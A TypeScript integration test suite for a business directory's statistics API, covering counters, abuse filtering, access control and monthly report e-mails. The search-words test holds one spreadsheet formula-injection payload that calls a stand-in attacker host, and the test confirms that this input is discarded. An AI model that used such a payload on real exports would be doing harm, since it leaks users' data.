// Runs on: both — twenty writers at once: row locks on the production shape, and PGlite's one
// session behind the stack's wire server.
import { randomUUID } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createClient } from '@supabase/supabase-js';
import type { Database } from '../../src/lib/database.ts';
import { simpleParser } from 'mailparser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
	addMonths,
	businessReportSchema,
	chamberDay,
	monthOf,
} from '../../src/features/reports/reports.ts';
import { dataOf, userClient } from '../support/db-clients.ts';
import { startFunctionServer, type FunctionServer } from '../support/function-server.ts';
import { anon, db, service, stack } from './clients.ts';
import {
	fixtureBusiness,
	importStaffChambers,
	removeStaffChambers,
	type StaffChambers,
} from './fixtures.ts';

// Member statistics over real HTTP and PostgREST: /api/stats adds to the counters (bots,
// repeats, other chambers' ids left out), twenty writers at once lose no count, row-level
// security shows the counters to the chamber's admins only, and the monthly e-mail goes to each
// business once a month.

const DOMAIN = 'stats.test';
const CHROME =
	'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';

const ids = {
	diner: randomUUID(),
	bakery: randomUUID(),
	hidden: randomUUID(),
	quiet: randomUUID(),
};

/**
 * The chamber's time zone: statistics count its days. Guam (UTC+10) is on the next day from
 * 14:00 UTC on, so a count under the UTC day fails these tests for ten hours of every day.
 */
const ZONE = 'Pacific/Guam';
const today = () => chamberDay(new Date(), ZONE);

let chambers: StaffChambers;
let server: FunctionServer;
let outbox: string;
/** Another chamber's published business. */
let otherBusiness: string;
/** Each call leaves from its own loopback address unless told: a new visitor to the repeat filter. */
let nextAddress = 20;

function send(
	events: unknown[],
	options: { from?: string; agent?: string; headers?: Record<string, string> } = {},
) {
	return server.call('/api/stats', {
		raw: JSON.stringify({ events }),
		from: options.from ?? `127.0.0.${nextAddress++}`,
		headers: {
			origin: server.url,
			'user-agent': options.agent ?? CHROME,
			'content-type': 'text/plain;charset=UTF-8',
			...options.headers,
		},
	});
}

/** Every counter of both chambers, as the superuser reads them. */
async function counters(day?: string): Promise<Record<string, number>> {
	const { rows } = await db.query<{
		business_id: string;
		kind: string;
		words: string;
		count: number;
	}>(
		`select business_id, kind, words, count from public.business_stats
		where tenant_id = any($1) and ($2::date is null or day = $2::date)`,
		[[chambers.tenantId, chambers.otherTenantId], day ?? null],
	);
	const names = Object.fromEntries(Object.entries(ids).map(([name, id]) => [id, name]));
	return Object.fromEntries(
		rows.map((r) => [
			`${names[r.business_id] ?? r.business_id} ${r.kind}${r.words ? ` "${r.words}"` : ''}`,
			r.count,
		]),
	);
}

/** `counters` with `added` on top. */
function plus(counters: Record<string, number>, added: Record<string, number>) {
	const sum = { ...counters };
	for (const [key, n] of Object.entries(added)) sum[key] = (sum[key] ?? 0) + n;
	return sum;
}

beforeAll(async () => {
	await db.connect();
	chambers = await importStaffChambers(stack, service, {
		prefix: 'stats',
		domain: DOMAIN,
		password: 'stats-password',
		config: { contact: { timeZone: ZONE } },
		businesses: [
			{
				...fixtureBusiness({ id: ids.diner, name: 'Cedar Diner', published: true }),
				email: 'diner@example.com',
			},
			{
				...fixtureBusiness({ id: ids.bakery, name: 'Main Street Bakery', published: true }),
				email: 'bakery@example.com',
			},
			{
				...fixtureBusiness({ id: ids.hidden, name: 'Hidden Tailor', published: false }),
				email: 'tailor@example.com',
			},
			fixtureBusiness({ id: ids.quiet, name: 'Quiet Books', published: true }),
		],
	});
	const { rows } = await db.query<{ id: string }>(
		`insert into public.profiles (tenant_id, report_name, weblink_profile_id)
		values ($1, 'Other Hardware', 'stats-other') returning id`,
		[chambers.otherTenantId],
	);
	otherBusiness = rows[0]!.id;
	outbox = await mkdtemp(join(tmpdir(), 'stats-outbox-'));
	server = await startFunctionServer(stack, {
		tenant: chambers.slug,
		env: { OUTBOX_DIR: outbox, SMTP_URL: undefined, SITE_URL: 'https://chamber.example' },
	});
});

afterAll(async () => {
	await server?.close();
	await removeStaffChambers(db, chambers, DOMAIN);
	await db.end();
	if (outbox) await rm(outbox, { recursive: true, force: true });
});

describe('POST /api/stats', () => {
	it("adds a batch to the counters of the chamber's published businesses, one row per business, day and kind", async () => {
		const answer = await send([
			{ kind: 'shown', business: ids.diner },
			{ kind: 'shown', business: ids.bakery },
			{ kind: 'shown', business: ids.diner },
			{ kind: 'view', business: ids.diner, words: '  Diner   Cedar ' },
			{ kind: 'website', business: ids.diner },
			{ kind: 'social_facebook', business: ids.diner },
			{ kind: 'view', business: ids.hidden },
			{ kind: 'view', business: otherBusiness },
			{ kind: 'view', business: randomUUID() },
		]);
		expect(answer.status).toBe(204);
		expect(answer.body).toBeNull();
		expect(answer.headers.get('cache-control')).toBe('no-store');
		expect(await counters(today())).toEqual({
			'diner shown': 1,
			'bakery shown': 1,
			'diner view': 1,
			'diner search "diner cedar"': 1,
			'diner website': 1,
			'diner social_facebook': 1,
		});
	});

	it('counts nothing from a bot, and a repeat from the same address within 30 minutes once', async () => {
		const before = await counters();
		for (const agent of [
			'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
			CHROME.replace('Chrome/', 'HeadlessChrome/'),
			'',
		]) {
			expect((await send([{ kind: 'phone', business: ids.bakery }], { agent })).status).toBe(204);
		}
		expect(await counters()).toEqual(before);

		expect(
			(await send([{ kind: 'phone', business: ids.bakery }], { from: '127.0.0.3' })).status,
		).toBe(204);
		expect(
			(await send([{ kind: 'phone', business: ids.bakery }], { from: '127.0.0.3' })).status,
		).toBe(204);
		expect(
			(await send([{ kind: 'phone', business: ids.bakery }], { from: '127.0.0.4' })).status,
		).toBe(204);
		expect(await counters()).toEqual({ ...before, 'bakery phone': 2 });
	});

	it("counts one address's views of a business once in 30 minutes, whatever search words each carries", async () => {
		// The request as a review sent it: 150 views of one business in three batches from one
		// address, each with other search words.
		const before = await counters(today());
		for (let batch = 0; batch < 3; batch++) {
			const answer = await send(
				Array.from({ length: 50 }, (_, i) => ({
					kind: 'view',
					business: ids.bakery,
					words: `bakery ${batch}-${i}`,
				})),
				{ from: '127.0.2.1' },
			);
			expect(answer.status).toBe(204);
		}
		expect(await counters(today())).toEqual(plus(before, { 'bakery view': 1 }));
	});

	it("keeps only search words that find the business, as the site's search reads them", async () => {
		const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open report")';
		const before = await counters(today());
		// Arbitrary text, and a real search that finds another business: the view counts, the
		// words do not.
		await send([{ kind: 'view', business: ids.bakery, words: formula }]);
		await send([{ kind: 'view', business: ids.bakery, words: 'cedar diner' }]);
		expect(await counters(today())).toEqual(plus(before, { 'bakery view': 2 }));
		// Words that find it: kept as the search reads them, punctuation left out.
		await send([{ kind: 'view', business: ids.bakery, words: '  =Main  STREET Bakery! ' }]);
		expect(await counters(today())).toEqual(
			plus(before, { 'bakery view': 3, 'bakery search "main street bakery"': 1 }),
		);
		// Even as the service role, record_business_stats keeps only words that find the business.
		const { error } = await service.rpc('record_business_stats', {
			p_tenant_id: chambers.tenantId,
			p_day: today(),
			p_counts: [
				{ business: ids.bakery, kind: 'search', words: formula.toLowerCase(), count: 1 },
				{ business: ids.bakery, kind: 'search', words: 'diner', count: 1 },
			],
		});
		expect(error).toBeNull();
		expect(await counters(today())).toEqual(
			plus(before, { 'bakery view': 3, 'bakery search "main street bakery"': 1 }),
		);
	});

	it('counts at most 500 events a day from one address', async () => {
		const from = '127.0.2.2';
		const before = await counters(today());
		// 500 cards of ids no business has: each passes the address's filter, the database drops it.
		for (let batch = 0; batch < 10; batch++) {
			await send(
				Array.from({ length: 50 }, () => ({ kind: 'shown', business: randomUUID() })),
				{ from },
			);
		}
		await send([{ kind: 'phone', business: ids.bakery }], { from });
		expect(await counters(today())).toEqual(before);
		await send([{ kind: 'phone', business: ids.bakery }], { from: '127.0.2.3' });
		expect(await counters(today())).toEqual(plus(before, { 'bakery phone': 1 }));
	});

	it('refuses what is not a batch from this site, with the reason', async () => {
		const view = { kind: 'view', business: ids.diner };
		expect(await send([{ kind: 'search', business: ids.diner }])).toMatchObject({
			status: 400,
			body: { error: 'events.0.kind: kind is not a known kind' },
		});
		expect(await send(Array(51).fill(view))).toMatchObject({
			status: 400,
			body: { error: 'events: events must hold at most 50 events' },
		});
		expect(
			await server.call('/api/stats', { raw: 'not json', headers: { origin: server.url } }),
		).toMatchObject({ status: 400, body: { error: 'Expected a JSON body' } });
		expect(await send([view], { headers: { origin: 'https://elsewhere.example' } })).toMatchObject({
			status: 403,
			body: { error: 'Statistics can only be sent from this site' },
		});
		expect(await send([view], { headers: { 'sec-fetch-site': 'cross-site' } })).toMatchObject({
			status: 403,
		});
		expect(
			(
				await server.call('/api/stats', {
					raw: JSON.stringify({ events: [view], pad: 'x'.repeat(17_000) }),
					headers: { origin: server.url, 'user-agent': CHROME },
				})
			).status,
		).toBe(413);
		const get = await server.call('/api/stats');
		expect(get.status).toBe(405);
		expect(get.headers.get('allow')).toBe('POST');
	});

	it('loses no count with 20 writers at once', async () => {
		const day = '2020-02-29';
		// Twenty service clients (twenty PostgREST connections), ten batches each on the same rows.
		await Promise.all(
			Array.from({ length: 20 }, async () => {
				const client = createClient<Database>(stack.supabaseUrl, stack.serviceKey, {
					auth: { persistSession: false },
				});
				for (let i = 0; i < 10; i++) {
					const { error } = await client.rpc('record_business_stats', {
						p_tenant_id: chambers.tenantId,
						p_day: day,
						p_counts: [
							{ business: ids.bakery, kind: 'view', count: 1 },
							{ business: ids.diner, kind: 'view', count: 2 },
							{ business: ids.diner, kind: 'search', words: 'cedar', count: 1 },
						],
					});
					expect(error).toBeNull();
				}
			}),
		);
		expect(await counters(day)).toEqual({
			'bakery view': 200,
			'diner view': 400,
			'diner search "cedar"': 200,
		});

		// And through the function: twenty visitors' batches at once on the same counters.
		const before = await counters(today());
		const answers = await Promise.all(
			Array.from({ length: 20 }, (_, i) =>
				send(
					[
						{ kind: 'directions', business: ids.diner },
						{ kind: 'share', business: ids.bakery },
					],
					{ from: `127.0.1.${i + 1}` },
				),
			),
		);
		expect(answers.map((a) => a.status)).toEqual(Array(20).fill(204));
		expect(await counters(today())).toEqual({
			...before,
			'diner directions': 20,
			'bakery share': 20,
		});
	});
});

describe('who reads the counters', () => {
	const period = () => {
		const month = monthOf(new Date(), ZONE);
		return { p_from: `${month}-01`, p_to: today() };
	};

	it("the chamber's admins and super_admins read them; editors, other chambers and visitors do not", async () => {
		const read = async (token?: string) => {
			const client = token ? userClient(stack, token) : anon;
			const { data, error } = await client
				.from('business_stats')
				.select('kind, count')
				.eq('tenant_id', chambers.tenantId);
			return error ? error.code : (data ?? []).length;
		};
		const { rowCount } = await db.query(
			'select 1 from public.business_stats where tenant_id = $1',
			[chambers.tenantId],
		);
		expect(rowCount).toBeGreaterThan(0);
		expect(await read(chambers.tokens.admin)).toBe(rowCount);
		expect(await read(chambers.tokens.super)).toBe(await read(chambers.tokens.admin));
		expect(await read(chambers.tokens.editor)).toBe(0);
		expect(await read(chambers.tokens.otherAdmin)).toBe(0);
		expect(await read()).toBe('42501');
	});

	it("the reports answer the admin every published business's numbers, and the editor none", async () => {
		const totals = async (token: string) =>
			dataOf(
				await userClient(stack, token).rpc('business_stats_totals', {
					p_tenant_id: chambers.tenantId,
					...period(),
				}),
			);
		const admin = await totals(chambers.tokens.admin);
		expect(admin.map((r) => r.name)).toEqual(['Cedar Diner', 'Main Street Bakery', 'Quiet Books']);
		expect(admin[0]).toMatchObject({ shown: 1, views: 1 });
		expect(Number(admin[0]!.actions)).toBeGreaterThanOrEqual(3);
		expect(admin[2]).toMatchObject({ shown: 0, views: 0, actions: 0 });
		const editor = await totals(chambers.tokens.editor);
		expect(editor.map((r) => [r.shown, r.views, r.actions].map(Number))).toEqual([
			[0, 0, 0],
			[0, 0, 0],
			[0, 0, 0],
		]);

		// Read as the Reports tab reads it.
		const report = businessReportSchema.parse(
			dataOf(
				await userClient(stack, chambers.tokens.admin).rpc('business_stats_report', {
					p_tenant_id: chambers.tenantId,
					p_business_id: ids.diner,
					...period(),
				}),
			),
		);
		expect(report.kinds).toMatchObject({ shown: 1, view: 1, website: 1, social_facebook: 1 });
		expect(report.searches).toEqual([{ words: 'diner cedar', count: 1 }]);
		expect(report.months).toHaveLength(12);
		expect(report.months.at(-1)).toMatchObject({
			month: monthOf(new Date(), ZONE),
			shown: 1,
			views: 1,
		});
	});

	it('nobody but the service role adds to them', async () => {
		const { error } = await userClient(stack, chambers.tokens.admin).rpc('record_business_stats', {
			p_tenant_id: chambers.tenantId,
			p_day: today(),
			p_counts: [{ business: ids.diner, kind: 'view', count: 1000 }],
		});
		expect(error?.message).toMatch(/permission denied/);
		const { error: insertError } = await userClient(stack, chambers.tokens.admin)
			.from('business_stats')
			.insert({
				tenant_id: chambers.tenantId,
				business_id: ids.diner,
				day: '2021-01-01',
				kind: 'view',
				count: 5,
			});
		expect(insertError?.code).toBe('42501');
	});
});

describe('the monthly e-mail', () => {
	const now = new Date();
	const month = addMonths(monthOf(now, ZONE), -1);
	const before = addMonths(month, -1);

	async function run(at: Date, limit?: number) {
		const { runMonthlyReports } = await import('../../netlify/functions/stats-monthly-email.ts');
		return runMonthlyReports(at, limit);
	}

	async function mails() {
		const files = (await readdir(outbox)).filter((f) => f.endsWith('.eml')).sort();
		return Promise.all(files.map(async (f) => simpleParser(await readFile(join(outbox, f)))));
	}

	it('is off until an admin switches it on', async () => {
		expect(await run(now)).toMatchObject({ enabled: false, sent: 0 });
		expect(await mails()).toEqual([]);

		const editor = await userClient(stack, chambers.tokens.editor)
			.from('member_report_settings')
			.upsert({ tenant_id: chambers.tenantId, monthly_email: true });
		expect(editor.error?.code).toBe('42501');
		const admin = await userClient(stack, chambers.tokens.admin)
			.from('member_report_settings')
			.upsert({ tenant_id: chambers.tenantId, monthly_email: true });
		expect(admin.error).toBeNull();
		const { rows } = await db.query(
			`select actor_email, section, field, new_value from public.audit_log
			where tenant_id = $1 and section = 'reports'`,
			[chambers.tenantId],
		);
		expect(rows).toEqual([
			{
				actor_email: chambers.emails.admin,
				section: 'reports',
				field: 'monthlyEmail',
				new_value: true,
			},
		]);
	});

	it('sends each business with an address its month once, resuming where a run stopped', async () => {
		await db.query(
			`insert into public.business_stats (tenant_id, business_id, day, kind, count) values
			($1, $2, $4::date + 3, 'shown', 120), ($1, $2, $4::date + 4, 'view', 30), ($1, $2, $4::date + 5, 'website', 6),
			($1, $2, $5::date + 3, 'shown', 100), ($1, $2, $5::date + 4, 'view', 40),
			($1, $3, $4::date + 1, 'view', 7)`,
			[chambers.tenantId, ids.diner, ids.bakery, `${month}-01`, `${before}-01`],
		);
		// The run stops after one mail; the next run sends the other; a third finds nothing to do.
		expect(await run(now, 1)).toMatchObject({ enabled: true, month, sent: 1, remaining: 1 });
		expect(await run(now)).toMatchObject({ sent: 1, remaining: 0 });
		expect(await run(now)).toMatchObject({ sent: 0, remaining: 0 });

		const sent = await mails();
		expect(sent.map((m) => (m.to as { text: string }).text).sort()).toEqual([
			'"Cedar Diner" <diner@example.com>',
			'"Main Street Bakery" <bakery@example.com>',
		]);
		const diner = sent.find((m) => m.subject?.startsWith('Cedar Diner'))!;
		expect(diner.subject).toMatch(
			/^Cedar Diner: your Chamber stats-\w+ directory numbers for \w+ \d{4}$/,
		);
		expect(diner.text).toContain('Shown: 120 (+20% on the month before, 100)');
		expect(diner.text).toContain('Profile views: 30 (−25% on the month before, 40)');
		expect(diner.text).toContain('Actions: 6 (new on the month before, 0)');
		const { rows } = await db.query<{ opt_out_token: string }>(
			'select opt_out_token from public.member_report_recipients where business_id = $1',
			[ids.diner],
		);
		const optOut = `https://chamber.example/privacy/statistics/opt-out?token=${rows[0]!.opt_out_token}`;
		expect(diner.text).toContain(`To stop these e-mails: ${optOut}`);
		expect(diner.html).toContain(`href="${optOut}"`);
		expect(diner.html).toContain('background:#082a44');
		const header = (name: string) => diner.headerLines.find((h) => h.key === name)?.line;
		expect(header('list-unsubscribe')).toContain(
			`<https://chamber.example/api/stats-opt-out?token=${rows[0]!.opt_out_token}>`,
		);
		expect(header('list-unsubscribe-post')).toBe(
			'List-Unsubscribe-Post: List-Unsubscribe=One-Click',
		);

		const { rows: mailings } = await db.query(
			`select business_id, sent_at is not null as sent from public.member_report_mailings
			where tenant_id = $1 order by business_id`,
			[chambers.tenantId],
		);
		expect(mailings).toHaveLength(2);
		expect(mailings.every((m) => m.sent)).toBe(true);
	});

	it('stops for a business that opted out, from the next month on', async () => {
		const { rows } = await db.query<{ opt_out_token: string }>(
			'select opt_out_token from public.member_report_recipients where business_id = $1',
			[ids.bakery],
		);
		// A mail client's one-click unsubscribe (RFC 8058): a POST from its servers, no Origin.
		const oneClick = (token: string) =>
			server.call(`/api/stats-opt-out?token=${token}`, {
				method: 'POST',
				raw: 'List-Unsubscribe=One-Click',
				headers: { 'content-type': 'application/x-www-form-urlencoded' },
			});
		expect(await oneClick(randomUUID())).toMatchObject({
			status: 404,
			body: { error: 'This link is not valid' },
		});
		expect((await oneClick('not-a-token')).status).toBe(400);
		const opened = await server.call(`/api/stats-opt-out?token=${rows[0]!.opt_out_token}`);
		expect(opened.status).toBe(303);
		expect(opened.headers.get('location')).toBe(
			`/privacy/statistics/opt-out?token=${rows[0]!.opt_out_token}`,
		);
		expect(await oneClick(rows[0]!.opt_out_token)).toMatchObject({
			status: 200,
			body: { optedOut: true },
		});
		const { rows: recipient } = await db.query(
			'select opted_out_at is not null as out from public.member_report_recipients where business_id = $1',
			[ids.bakery],
		);
		expect(recipient).toEqual([{ out: true }]);
		const count = (await mails()).length;
		const next = new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth() + 1, 2));
		expect(await run(next)).toMatchObject({ sent: 1 });
		const sent = await mails();
		expect(sent).toHaveLength(count + 1);
		expect(sent.filter((m) => m.subject?.startsWith('Main Street Bakery'))).toHaveLength(1);
	});
});
